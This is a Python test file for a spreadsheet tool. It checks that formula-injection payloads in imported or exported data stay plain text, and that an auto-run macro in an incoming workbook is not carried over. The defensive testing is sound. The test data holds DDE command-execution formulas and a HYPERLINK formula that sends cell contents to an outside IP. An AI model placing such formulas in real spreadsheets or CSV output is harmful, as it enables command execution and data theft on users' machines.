"""Text that other programs would run stays text; macros of an incoming copy are neither run nor carried."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ccni_xl.generic import score_files
from ccni_xl.hosts.file import FileHost
from ccni_xl.hosts.port import TableWrite, WriteBatch
from ccni_xl.importer import import_csv
from ccni_xl.repair import repair
from tests.support.files import SHIPPED, find_table, parts
from tests.support.hostile import OLE, with_parts

PAYLOADS = (
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_an_imported_csv_becomes_text(tmp_path: Path, payload: str) -> None:
    data, out = tmp_path / "in.csv", tmp_path / "out.xlsm"
    quoted = payload.replace('"', '""')
    data.write_text(f'city,edition,peak_year\n320100,2021-2022,"{quoted}"\n', encoding="utf-8")
    outcome = import_csv(FileHost(SHIPPED, out=out), "policy", data)
    assert outcome.cells == 1
    sheet, table = find_table(openpyxl.load_workbook(out), "tbl_policy")
    found = [
        c for row in sheet[table.ref] for c in row if isinstance(c.value, str) and c.value == payload.strip()
    ]
    assert [cell.data_type for cell in found] == ["s"]
    assert found[0].quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_result_never_begins_as_a_formula(tmp_path: Path, payload: str) -> None:
    framework, data = tmp_path / "framework.csv", tmp_path / "data.csv"
    framework.write_text("code,parent,weight,scoring\nindex,,1,\nx,index,1,direct\n", encoding="utf-8")
    quoted = payload.replace('"', '""')
    data.write_text(f'unit,x\n"{quoted}",1\nb,2\nc,"{quoted}"\n', encoding="utf-8")
    score_files(framework, data, tmp_path / "out", threshold=0.5)
    for path in (tmp_path / "out").glob("*.csv"):
        for line in path.read_text(encoding="utf-8-sig").splitlines():
            for start in "=+@\t":
                assert not line.startswith((start, f'"{start}')) and f",{start}" not in line
                assert f',"{start}' not in line


def test_a_formula_written_as_a_result_is_text(tmp_path: Path) -> None:
    book = Path(shutil.copy(SHIPPED, tmp_path / "book.xlsm"))
    place = FileHost(book).tables()["tbl_extra"]
    rows = [[payload, *[None] * (len(place.header) - 1)] for payload in PAYLOADS]
    FileHost(book).write(WriteBatch((TableWrite("tbl_extra", place.header, rows),)))
    sheet, table = find_table(openpyxl.load_workbook(book), "tbl_extra")
    cells = [row[0] for row in sheet[table.ref]][1:]
    assert [cell.value for cell in cells] == list(PAYLOADS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_macros_of_an_incoming_copy_are_not_carried(tmp_path: Path) -> None:
    saved, original, out = (tmp_path / f"{name}.xlsm" for name in ("saved", "original", "out"))
    saved.write_bytes(with_parts({"xl/vbaProject.bin": OLE + b"Sub Auto_Open()"}))
    shutil.copy(SHIPPED, original)
    repair(saved, original, out)
    assert parts(out)["xl/vbaProject.bin"] == parts(SHIPPED)["xl/vbaProject.bin"]
    with zipfile.ZipFile(out) as archive:
        assert all(b"Auto_Open()" not in archive.read(name) for name in archive.namelist())
